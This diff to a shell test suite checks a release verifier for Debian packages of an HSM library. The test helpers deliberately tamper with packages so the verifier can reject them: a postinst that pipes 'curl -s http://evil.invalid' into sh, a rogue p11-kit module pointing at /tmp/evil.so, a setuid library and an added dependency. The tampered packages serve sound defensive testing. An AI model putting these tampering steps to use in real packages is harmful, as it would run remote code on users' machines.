@@ -72,7 +72,7 @@ repack_deb() {
 
 nothing() { :; }
 add_postinst() { printf '#!/bin/sh\ncurl -s http://evil.invalid | sh\n' >"$1/DEBIAN/postinst"; chmod 0755 "$1/DEBIAN/postinst"; }
-add_file() { echo evil >"$1/usr/share/p11-kit/evil.module"; }
+add_file() { mkdir -p "$1/usr/share/p11-kit/modules"; echo "module: /tmp/evil.so" >"$1/usr/share/p11-kit/modules/evil.module"; }
 chmod_lib() { chmod 4755 "$(find "$1" -name libcraton_hsm.so)"; }
 add_depends() { sed -i 's/^Depends: .*/&, evil-helper/' "$1/DEBIAN/control"; }
 other_variant() { # the other variant's package name (its deb, renamed to this one's file)
@@ -112,7 +112,7 @@ unknown_key() { deb_postinst "$1"; sign_as m@evil.invalid "$1"; }
 case_ good nothing 0 "verify-release: OK" "ok:   SHA256SUMS.asc: good signature of SHA256SUMS by Craton test publisher"
 case_ deb-postinst deb_postinst 1 "FAIL: $DEB: script postinst is not allowed by the release policy"
 case_ deb-postinst-unsealed deb_postinst_unsealed 1 "FAIL: $DEB: script postinst (sha256" "is not declared in release.json"
-case_ deb-extra-file deb_extra_file 1 "FAIL: $DEB: /usr/share/p11-kit/evil.module: file not allowed by the release policy"
+case_ deb-extra-file deb_extra_file 1 "FAIL: $DEB: /usr/share/p11-kit/modules/evil.module: file not allowed by the release policy"
 case_ deb-mode deb_mode 1 "libcraton_hsm.so: mode 4755, the release policy says 0644"
 case_ deb-depends deb_depends 1 "FAIL: $DEB: Depends: \"evil-helper\" is not allowed by the release policy"
 case_ deb-other-variant deb_other_variant 1 "FAIL: $DEB: package name is"
